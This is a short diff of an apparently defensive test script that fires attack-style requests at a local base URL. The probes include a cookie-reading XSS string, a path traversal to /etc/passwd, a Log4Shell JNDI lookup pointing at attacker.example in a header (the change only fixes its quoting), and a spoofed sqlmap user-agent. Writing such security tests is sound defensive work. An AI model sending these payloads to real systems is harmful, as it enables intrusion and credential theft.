@@ -78,7 +78,7 @@ await fetch(
 )
 await post('/login', JSON.stringify({ username: '<script>alert(document.cookie)</script>', password: 'x' }))
 await fetch(`${base}/api/orders?export=${encodeURIComponent('../../../../etc/passwd')}`)
-await fetch(`${base}/api/orders`, { headers: { 'x-forwarded-host': '${jndi:ldap://attacker.example/a}' } })
+await fetch(`${base}/api/orders`, { headers: { 'x-forwarded-host': `\${jndi:ldap://attacker.example/a}` } })
 await fetch(`${base}/api/orders?id=1`, {
   headers: { 'user-agent': 'sqlmap/1.8.4#stable (https://sqlmap.org)' },
 })
